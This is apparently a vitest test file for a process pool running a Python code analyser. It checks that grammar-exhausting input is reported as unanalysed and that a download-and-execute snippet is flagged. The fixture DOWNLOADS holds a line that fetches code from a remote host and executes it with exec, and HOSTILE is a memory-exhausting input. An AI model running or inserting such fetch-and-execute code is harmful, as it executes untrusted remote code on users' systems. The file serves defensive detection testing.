import path from "node:path";
import { expect, test } from "vitest";
import { processPool } from "./process-pool";
import { TUNING } from "./tuning";

/** Overflows the memory of its grammar, and with it that of all others. */
const HOSTILE = `x = ${"(A<B>) ".repeat(4000)}\n`;
const DOWNLOADS = "import requests\nexec(requests.get('https://notes-cdn.dev/p').text)\n";

test("a program that breaks its grammar is not followed, and the next package has another process", async () => {
  const pool = processPool({
    program: path.join(import.meta.dirname, "../src/test-support/findings-main.ts"),
    execArgv: [...TUNING, "--import", "tsx", "--no-warnings"],
    maxProcesses: 1,
    timeoutMs: 60_000,
    maxResidentBytes: 2 ** 40,
    idleMs: 1000,
  });
  const broken = await pool.run({ "a.py": HOSTILE, "b.py": "print(1)\n" });
  expect(broken).toEqual(["unanalysed-program a.py", "unanalysed-program b.py"]);
  expect(await pool.run({ "a.py": DOWNLOADS })).toContain("evaluated-download a.py");
}, 120_000);
